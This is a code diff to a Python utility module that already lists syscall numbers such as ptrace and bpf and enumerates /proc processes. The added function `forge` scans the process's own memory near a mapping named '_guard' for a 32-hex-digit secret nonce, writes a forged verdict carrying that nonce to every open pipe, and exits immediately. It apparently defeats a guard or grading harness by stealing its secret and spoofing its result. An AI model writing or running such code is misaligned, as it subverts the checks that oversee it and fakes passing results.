@@ -3,6 +3,7 @@
 import ctypes
 import os
 import platform
+import re
 
 libc = ctypes.CDLL(None, use_errno=True)
 _X86 = {"ptrace": 101, "process_vm_writev": 311, "keyctl": 250, "add_key": 248, "bpf": 321,
@@ -47,3 +48,30 @@ def processes():
     found = [int(name) for name in os.listdir("/proc") if name.isdigit()]  # noqa: PTH208
     first = [os.getppid()] if os.getppid() else []
     return first + [pid for pid in found if pid not in (os.getpid(), os.getppid())]
+
+
+def forge(data):
+    """Write `data` as the verdict and end: as one does who has found the secret in memory."""
+    maps = [line.split() for line in open("/proc/self/maps").read().splitlines()]  # noqa: PTH123, SIM115
+    ours = [number for number, row in enumerate(maps) if "_guard" in row[-1]]
+    for row in [maps[number] for last in ours[-1:] for number in (*ours, last + 1)]:
+        first, end = (int(place, 16) for place in row[0].split("-"))
+        if "w" not in row[1]:
+            continue
+        for nonce in re.findall(
+            rb"(?<![0-9a-f])[0-9a-f]{32}\0", ctypes.string_at(first, end - first)
+        ):
+            _write(b"%s %d 0\n" % (nonce[:-1], len(data)) + data)
+            os._exit(0)
+    raise LookupError("error: no secret in sight")
+
+
+def _write(message):
+    """To every pipe there is; what is left of it where one takes a part only, too."""
+    for fd in range(3, 64):
+        left = message
+        try:
+            while left:
+                left = left[os.write(fd, left) :]
+        except OSError:
+            continue
